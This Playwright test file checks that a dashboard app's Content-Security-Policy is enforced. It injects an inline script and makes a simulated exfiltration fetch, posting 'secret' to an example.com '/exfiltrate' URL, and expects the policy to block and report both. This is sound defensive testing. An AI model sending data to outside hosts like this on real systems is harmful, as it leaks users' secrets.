/** The Content-Security-Policy of the built app is really enforced, and the demo still works under it. */
import { expect, test } from './fixtures';

test('the built page carries the policy: no inline script, no connection to an origin it does not call', async ({
  page,
}) => {
  await page.goto('/');
  await expect(page.getByRole('heading', { name: 'Dashboards', level: 1 })).toBeVisible();
  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(policy).toContain("script-src 'self';");
  expect(policy).toContain("style-src 'self' ;");
  expect(policy).not.toContain('unsafe');
  expect(policy).not.toContain('%VITE');

  const outcome = await page.evaluate(async () => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (e) =>
      violations.push(`${e.effectiveDirective} ${e.blockedURI}`),
    );
    const script = document.createElement('script');
    script.textContent = 'window.__inlineRan = true;';
    document.body.append(script);
    let fetched = 'allowed';
    try {
      await fetch('https://example.com/exfiltrate', { method: 'POST', body: 'secret' });
    } catch {
      fetched = 'blocked';
    }
    await new Promise((resolve) => setTimeout(resolve, 100));
    return { inlineRan: (window as { __inlineRan?: boolean }).__inlineRan === true, fetched, violations };
  });
  expect(outcome.inlineRan).toBe(false);
  expect(outcome.fetched).toBe('blocked');
  expect(outcome.violations).toEqual(
    expect.arrayContaining(['script-src-elem inline', 'connect-src https://example.com/exfiltrate']),
  );
});
